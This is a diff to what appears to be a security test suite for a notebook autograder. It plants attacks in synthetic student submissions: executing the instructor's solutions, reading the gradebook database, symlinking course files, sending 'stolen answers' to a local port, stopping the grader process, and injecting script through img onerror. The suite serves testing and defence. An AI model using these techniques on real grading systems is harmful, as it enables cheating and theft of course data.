@@ -5,7 +5,8 @@ it in), the kit's folder, a TCP port on 127.0.0.1 where the test listens. Each a
 errors, so what it gains or loses shows only in the score and in what it leaves behind.
 """
 
-from dataclasses import dataclass
+import os
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import nbformat
@@ -21,8 +22,9 @@ MARKER = "wordsnums-attack-sleeper"  # in the command line of the processes the 
 class Attack:
     student: str
     base: str  # the synthetic student the attack starts from: full (17 points) or blank (0)
-    code: str  # appended to the first answer cell; {course} and {port} are filled in
+    code: str  # put before the first answer cell's code; {course} and {port} are filled in
     score: float
+    links: dict[str, str] = field(default_factory=dict)  # submitted as links: name -> path in the course
 
 
 def _guarded(code: str) -> str:
@@ -43,15 +45,23 @@ for pid in os.listdir("/proc"):
 courses = [p for p in places if (p / "source").is_dir()]
 """
 
+# Runs every code cell of a source notebook read into `source`: the solutions and the set-up they need.
+EXEC_SOURCE = """
+for c in source["cells"]:
+    if c["cell_type"] == "code":
+        try:
+            exec("".join(c["source"]), globals())
+        except Exception:
+            pass
+"""
+
 ATTACKS = [
     Attack("exec_source", "blank", FIND_COURSE + """
 import json
+source = {{"cells": []}}
 for course in courses[:1]:
     source = json.loads((course / "source/a1_close_reading/a1_close_reading.ipynb").read_text())
-    for c in source["cells"]:
-        if c["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(c["source"]):
-            exec("".join(c["source"]), globals())
-""", 0),
+""" + EXEC_SOURCE, 0),
     Attack("leaker", "blank", FIND_COURSE + """
 import sqlite3
 for course in courses:
@@ -110,6 +120,14 @@ for target in [f"/proc/{{os.getppid()}}/fd/1", "/proc/1/fd/1"]:
         pass
 os.kill(os.getppid(), 19)
 """, 17),
+    Attack("linker", "blank", """
+import json, os
+# links for nbgrader's last step to follow: it would make these files of the course read-only
+for name, target in [("made_link", "source/a1_close_reading/a1_close_reading.ipynb"),
+                     ("made_config", "nbgrader_config.py")]:
+    os.symlink({course!r} + "/" + target, name)
+source = json.loads(open("answers.json").read())  # submitted as a link to the source notebook
+""" + EXEC_SOURCE, 0, links={"answers.json": "source/a1_close_reading/a1_close_reading.ipynb"}),
     Attack("caller", "full", """
 import socket
 socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen answers")
@@ -138,11 +156,14 @@ def write_attack_class(course_dir: Path, make, port: int) -> dict[str, float]:
     for attack in ATTACKS:
         nb = make(attack.base)
         answer = cell(nb, "q1_boundary")
-        answer.source += "\n" + _guarded(attack.code.format(course=str(course_dir), port=port))
+        # before the answer: a blank answer raises at once, and the attack must run all the same
+        answer.source = _guarded(attack.code.format(course=str(course_dir), port=port)) + "\n" + answer.source
         if attack.student == "scripter":  # a markdown cell of the student's own, with script in it
             nb.cells.insert(2, nbformat.v4.new_markdown_cell("<img src=x onerror=\"window.PWNED = 4\">"))
         folder = course_dir / "submitted" / attack.student / A1
         folder.mkdir(parents=True)
         nbformat.write(nb, folder / NOTEBOOK)
+        for name, target in attack.links.items():
+            os.symlink(course_dir / target, folder / name)
         expected[attack.student] = attack.score
     return expected
